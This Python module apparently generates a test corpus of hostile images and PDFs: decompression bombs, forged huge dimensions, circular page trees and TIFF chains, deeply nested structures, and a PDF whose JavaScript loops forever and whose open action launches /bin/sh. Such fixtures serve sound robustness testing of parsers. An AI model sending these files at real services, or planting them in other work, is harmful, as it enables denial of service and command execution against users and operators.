"""Pictures and PDF files that mean harm: small files that claim to be huge, endless or circular.

``FILES`` names functions that return the bytes of a file.
"""

import io
import struct
import zlib
from collections.abc import Callable, Iterable, Mapping

from PIL import Image

MEBIBYTE = 1 << 20


def png_chunk(kind: bytes, content: bytes) -> bytes:
    """A chunk with its length and checksum."""
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def png(
    width: int, height: int, *, depth: int, colour: int, rows: int, extra: bytes = b""
) -> bytes:
    """A PNG of zeros that declares one size and holds as many rows as told."""
    channels = {0: 1, 2: 3, 3: 1, 6: 4}[colour]
    row = bytes(1 + (width * depth * channels + 7) // 8) if rows else b""
    press = zlib.compressobj(9)
    data = b"".join(press.compress(row) for _ in range(rows)) + press.flush()
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"".join(
        (
            b"\x89PNG\r\n\x1a\n",
            png_chunk(b"IHDR", head),
            extra,
            png_chunk(b"IDAT", data),
            png_chunk(b"IEND", b""),
        )
    )


def gif(width: int, height: int, *, frames: int, full: bool) -> bytes:
    """A GIF that declares a screen; each frame covers all of it, or one pixel."""
    size = struct.pack("<HH", width, height) if full else struct.pack("<HH", 1, 1)
    frame = b"\x21\xf9\x04\x00\x01\x00\x00\x00\x2c\0\0\0\0" + size + b"\x00\x02\x02\x44\x01\x00"
    screen = b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    return screen + frame * frames + b"\x3b"


def saved(kind: str, size: tuple[int, int] = (64, 64), **options: object) -> bytes:
    """A small sound picture."""
    stream = io.BytesIO()
    Image.new("RGB", size, "white").save(stream, kind, **options)
    return stream.getvalue()


def jpeg_claiming(width: int, height: int, *, progressive: bool = False) -> bytes:
    """A small JPEG whose frame header claims another size."""
    made = bytearray(saved("JPEG", progressive=progressive))
    at = made.index(b"\xff\xc2" if progressive else b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(made)


def jpeg_of_scans(scans: int) -> bytes:
    """A progressive JPEG of a large size with very many tiny scans."""
    made = jpeg_claiming(6_000, 6_000, progressive=True)
    start = made.rindex(b"\xff\xda")
    return made[:start] + made[start:-2] * scans + made[-2:]


def jpeg_of_segments(mark: int, content: bytes, count: int) -> bytes:
    """A JPEG with one segment again and again before its picture."""
    made = saved("JPEG")
    segment = b"\xff" + bytes([mark]) + struct.pack(">H", len(content) + 2) + content
    return made[:2] + segment * count + made[2:]


def bigtiff(tags: int) -> bytes:
    """A BigTIFF whose only page has very many tags."""
    tag = struct.pack("<HHQQ", 270, 2, 1, 0)
    return b"II+\x00" + struct.pack("<HHQQ", 8, 0, 16, tags) + tag * tags + bytes(8)


def tiff(pages: int, *, loops: bool = False, width: int = 8, height: int = 8) -> bytes:
    """A TIFF of very many pages over one strip, or one whose last page leads to the first."""
    strip = 8
    entries = (
        (256, 3, width),
        (257, 3, height),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, strip),
        (277, 3, 1),
        (278, 4, height),
        (279, 4, 64),
    )
    tags = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in entries)
    length = 2 + len(tags) + 4
    first = strip + 64
    directories = []
    for number in range(pages):
        after = first + length * (number + 1)
        if number == pages - 1:
            after = first if loops else 0
        directories.append(struct.pack("<H", len(entries)) + tags + struct.pack("<I", after))
    return b"II*\x00" + struct.pack("<I", first) + bytes(64) + b"".join(directories)


def bmp(width: int, height: int) -> bytes:
    """A BMP that declares a size and ends after its header."""
    return (
        b"BM"
        + struct.pack("<IHHI", 54, 0, 0, 54)
        + struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
    )


def webp(width: int, height: int) -> bytes:
    """A WebP whose canvas is larger than what it holds."""
    made = saved("WEBP")
    canvas = b"VP8X" + struct.pack("<I", 10) + bytes(4)
    canvas += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + canvas + made[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def heif_claiming(width: int, height: int) -> bytes:
    """A HEIC whose size property claims another size."""
    import pillow_heif  # noqa: PLC0415 (an encoder that only this attack needs)

    pillow_heif.register_heif_opener()
    made = saved("HEIF")
    at = made.index(b"ispe") + 8
    return made[:at] + struct.pack(">II", width, height) + made[at + 8 :]


def boxes(depth: int) -> bytes:
    """A HEIC of boxes in boxes."""
    content = b""
    for _ in range(depth):
        content = struct.pack(">I", len(content) + 8) + b"moov" + content
    return struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic" + content


def pdf(objects: Mapping[int, bytes], *, root: int = 1, extra: bytes = b"") -> bytes:
    """A PDF of numbered objects with a right table of places."""
    content = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(content)
    count = max(objects) + 1
    content += b"xref\n0 %d\n" % count
    for number in range(count):
        content += b"%010d %05d %s \n" % (
            (places[number], 0, b"n") if number in places else (0, 65535, b"f")
        )
    content += b"trailer\n<</Size %d /Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        count, root, extra, table
    )  # fmt: skip
    return bytes(content)


def stream(content: bytes, head: bytes = b"") -> bytes:
    """A stream pressed as hard as it goes, once or, by name of its filters, as it is."""
    if b"/Filter" not in head:
        content, head = zlib.compress(content, 9), head + b"/Filter/FlateDecode"
    return b"<</Length %d%s>>\nstream\n" % (len(content), head) + content + b"\nendstream"


def pages(count: int, body: bytes, *, box: bytes = b"0 0 595 842") -> bytes:
    """A PDF of one page again and again, drawn by one stream."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count %d/Kids[" % count
        + b" ".join(b"%d 0 R" % number for number in range(10, 10 + count))
        + b"]/MediaBox[" + box + b"]/Resources<</Font<</F 4 0 R>>/XObject<</X 5 0 R>>>>>>",
        3: body,
        4: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        5: form_within_itself(),
    }  # fmt: skip
    page = b"<</Type/Page/Parent 2 0 R/Contents 3 0 R>>"
    return pdf(objects | dict.fromkeys(range(10, 10 + count), page))


def form_within_itself() -> bytes:
    """A drawing that draws itself ten times."""
    return stream(
        b"/X Do " * 10,
        b"/Type/XObject/Subtype/Form/BBox[0 0 100 100]/Resources<</XObject<</X 5 0 R>>>>",
    )


def page_tree(kids: Mapping[int, Iterable[int]], *, leaves: Iterable[int] = ()) -> bytes:
    """A PDF whose tree of pages is as told."""
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    for number, below in kids.items():
        named = b" ".join(b"%d 0 R" % kid for kid in below)
        objects[number] = b"<</Type/Pages/Count 1000000/Kids[" + named + b"]>>"
    for number in leaves:
        objects[number] = b"<</Type/Page/MediaBox[0 0 9 9]/Parent 2 0 R>>"
    return pdf(objects)


def pdf_with_picture(width: int, height: int, data: bytes, filters: bytes) -> bytes:
    """A PDF with one picture that declares a size, over the page."""
    picture = stream(
        data,
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceRGB"
        b"/Filter%s" % (width, height, filters),
    )
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
            b"/Resources<</XObject<</P 5 0 R>>>>>>",
            4: stream(b"595 0 0 842 0 0 cm /P Do"),
            5: picture,
        }
    )


def pressed(content: bytes, times: int) -> bytes:
    """Bytes pressed again and again."""
    for _ in range(times):
        content = zlib.compress(content, 9)
    return content


def object_streams(count: int) -> bytes:
    """Streams of objects, each of which claims a million objects."""
    body = stream(b"7 0 " * 2_000_000, b"/Type/ObjStm/N 1000000/First 9000000")
    objects = dict.fromkeys(range(10, 10 + count), body)
    return pdf({1: b"<</Type/Catalog/Pages 11 0 R>>", **objects})


def with_javascript() -> bytes:
    """A PDF that asks its reader to run, open and send things."""
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names<</JavaScript 5 0 R>>>>",
            2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA<</O 6 0 R>>>>",
            4: b"<</S/JavaScript/JS(while(true){app.alert\\(1\\);})>>",
            5: b"<</Names[(a) 4 0 R]>>",
            6: b"<</S/Launch/F(/bin/sh)>>",
        }
    )


def fonts_of_pdf() -> bytes:
    """A PDF whose font is a program of junk."""
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
            b"/Resources<</Font<</F 5 0 R>>>>>>",
            4: stream(b"BT /F 12 Tf 9 9 Td (" + b"A" * 100_000 + b") Tj ET"),
            5: b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 0/LastChar 255"
            b"/FontDescriptor 6 0 R>>",
            6: b"<</Type/FontDescriptor/FontName/A/Flags 4/FontFile2 7 0 R>>",
            7: stream(b"\0\1\0\0\0\x20" + bytes(range(256)) * 4_000),
        }
    )


FILES: Mapping[str, Callable[[], bytes]] = {
    "png of 30000 x 30000 white": lambda: png(30_000, 30_000, depth=1, colour=0, rows=30_000),
    "png that claims 30000 x 30000": lambda: png(30_000, 30_000, depth=8, colour=2, rows=9),
    "png of just under the limit": lambda: png(6_300, 6_300, depth=16, colour=6, rows=6_300),
    "png of one row": lambda: png(39_000_000, 1, depth=8, colour=2, rows=1),
    "png of two thousand million columns": lambda: png(
        0x7FFFFFFF, 0x7FFFFFFF, depth=8, colour=2, rows=0
    ),
    "png with a text bomb": lambda: png(
        9, 9, depth=8, colour=2, rows=9,
        extra=png_chunk(b"zTXt", b"a\0\0" + pressed(bytes(900 * MEBIBYTE), 1)),
    ),
    "png with a profile bomb": lambda: png(
        9, 9, depth=8, colour=2, rows=9,
        extra=png_chunk(b"iCCP", b"a\0\0" + pressed(bytes(900 * MEBIBYTE), 1)),
    ),
    "png of a million text chunks": lambda: png(
        9, 9, depth=8, colour=2, rows=9, extra=png_chunk(b"tEXt", b"a\0x") * 1_000_000
    ),
    "animated png of a million frames": lambda: png(
        9, 9, depth=8, colour=2, rows=9,
        extra=png_chunk(b"acTL", struct.pack(">II", 1_000_000, 0)),
    ),
    "gif of huge frames": lambda: gif(6_000, 6_000, frames=100_000, full=True),
    "gif of a huge screen": lambda: gif(65_535, 65_535, frames=1, full=False),
    "gif of a million frames": lambda: gif(9, 9, frames=1_000_000, full=False),
    "jpeg with a forged size": lambda: jpeg_claiming(65_500, 65_500),
    "jpeg of just under the limit": lambda: jpeg_claiming(10_900, 10_900),
    "progressive jpeg of just under the limit": lambda: jpeg_claiming(
        6_300, 6_300, progressive=True
    ),
    "progressive jpeg of 2000 scans": lambda: jpeg_of_scans(2_000),
    "jpeg of a million comments": lambda: saved("JPEG")[:2]
    + b"\xff\xfe\x00\x03x" * 1_000_000
    + saved("JPEG")[2:],
    "jpeg of camera notes without end": lambda: jpeg_of_segments(0xE1, b"Exif\0\0" + bytes(65_000), 700),
    "jpeg of a million tables": lambda: jpeg_of_segments(0xDB, bytes(65), 500_000),
    "jpeg of fill bytes": lambda: saved("JPEG")[:2] + b"\xff" * (40 * MEBIBYTE) + saved("JPEG")[2:],
    "jpeg of junk": lambda: saved("JPEG")[:2] + b"\xff\0" * (20 * MEBIBYTE) + saved("JPEG")[2:],
    "tiff of a million tags": lambda: bigtiff(1_000_000),
    "tiff of a million pages": lambda: tiff(350_000),
    "tiff whose pages go round": lambda: tiff(3, loops=True),
    "tiff of huge pages": lambda: tiff(20, width=60_000, height=60_000),
    "bmp that claims two thousand million rows": lambda: bmp(2_000_000_000, 2_000_000_000),
    "bmp of negative size": lambda: bmp(-5, -2_000_000_000),
    "webp of a huge canvas": lambda: webp(16_000_000, 16_000_000),
    "heic that claims 60000 x 60000": lambda: heif_claiming(60_000, 60_000),
    "heic of boxes in boxes": lambda: boxes(100_000),
    "pdf of a huge page": lambda: pages(1, stream(b""), box=b"0 0 1000000 1000000"),
    "pdf of a page of no width": lambda: pages(1, stream(b""), box=b"0 0 0 842"),
    "pdf of a strip": lambda: pages(1, stream(b""), box=b"0 0 14000 0.01"),
    "pdf of 10000 pages": lambda: pages(10_000, stream(b"BT /F 12 Tf 9 9 Td (x) Tj ET")),
    "pdf of a million letters a page": lambda: pages(
        20, stream(b"BT /F 1 Tf 1 0 0 1 9 9 Tm (" + b"x" * 1_000_000 + b") Tj ET")
    ),
    "pdf of a million lines a page": lambda: pages(
        20, stream(b"0 0 m 595 842 l S " * 1_000_000)
    ),
    "pdf of 20000 painted pages a page": lambda: pages(20, stream(b"0 0 595 842 re f " * 20_000)),
    "pdf of one line of a million segments": lambda: pages(
        20, stream(b"0 0 m " + b"595 842 l 9 9 l " * 500_000 + b"S")
    ),
    "pdf of a drawing within itself": lambda: pages(20, stream(b"/X Do")),
    "pdf of a stream bomb": lambda: pages(20, stream(bytes(900 * MEBIBYTE))),
    "pdf of a stream pressed thrice": lambda: pages(
        20,
        stream(
            pressed(b"q Q " * (200 * MEBIBYTE), 3),
            b"/Filter[/FlateDecode/FlateDecode/FlateDecode]",
        ),
    ),
    "pdf of nested brackets": lambda: pages(1, stream(b"[" * 5_000_000)),
    "pdf of nested dictionaries": lambda: pdf({1: b"<</A" * 200_000}),
    "pdf of open graphics states": lambda: pages(1, stream(b"q " * 5_000_000)),
    "pdf whose pages go round": lambda: page_tree({2: [3, 2], 3: [2, 3]}),
    "pdf whose page tree doubles at each level": lambda: page_tree(
        {n: [n + 1, n + 1] for n in range(2, 60)}, leaves=[60]
    ),
    "pdf of a page tree of 100000 levels": lambda: page_tree(
        {n: [n + 1] for n in range(2, 100_000)}, leaves=[100_000]
    ),
    "pdf with a picture of 30000 x 30000": lambda: pdf_with_picture(
        30_000, 30_000, pressed(bytes(30_000 * 3_000), 1), b"/FlateDecode"
    ),
    "pdf with a picture pressed thrice": lambda: pdf_with_picture(
        30_000, 30_000, pressed(bytes(900 * MEBIBYTE), 3),
        b"[/FlateDecode/FlateDecode/FlateDecode]",
    ),
    "pdf with a jpeg of a forged size": lambda: pdf_with_picture(
        60_000, 60_000, jpeg_claiming(60_000, 60_000), b"/DCTDecode"
    ),
    "pdf with a forged jpeg 2000": lambda: pdf_with_picture(
        60_000, 60_000, b"\xff\x4f\xff\x51" + bytes(200), b"/JPXDecode"
    ),
    "pdf of object streams": lambda: object_streams(50),
    "pdf with scripts": with_javascript,
    "pdf with a font of junk": fonts_of_pdf,
    "pdf of marks only": lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 5_000_000 + b"%%EOF",
    "pdf whose table goes round": lambda: pdf(
        {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 0/Kids[]>>"},
        extra=b"/Prev 9",
    ),
}  # fmt: skip
